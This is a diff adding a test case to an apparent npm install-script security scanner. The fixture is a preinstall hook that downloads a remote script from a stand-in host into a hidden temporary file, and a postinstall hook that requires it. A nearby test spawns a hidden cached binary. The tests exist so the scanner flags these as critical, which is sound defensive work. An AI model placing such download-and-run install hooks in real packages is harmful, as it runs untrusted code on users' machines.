@@ -2660,6 +2660,14 @@ spawn(path.join(os.tmpdir(), '.nodecache'), [], { stdio: 'inherit' });`,
     expect(r.risk_level).toBe('critical');
     expect(threatsOf(r)).toContain('install_script_injection');
   });
+  it('preinstall downloads a script to a hidden temporary file, postinstall requires it', () => {
+    const r = hooks(
+      `const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path');
+https.get('https://cdn.example-bins.dev/m.js', (r) => r.pipe(fs.createWriteStream(path.join(os.tmpdir(), '.mcache.js'))));`,
+      `const path = require('path'); const os = require('os'); require(path.join(os.tmpdir(), '.mcache.js'));`,
+    );
+    expect(r.risk_level).toBe('critical');
+  });
   it('the same steps with a checksum check, or a postinstall that only reads the file, stay quiet', () => {
     const verified = hooks(
       `${fetchJs}\nconst crypto = require('crypto'); exports.ok = (b) => crypto.createHash('sha256').update(b).digest('hex');`,
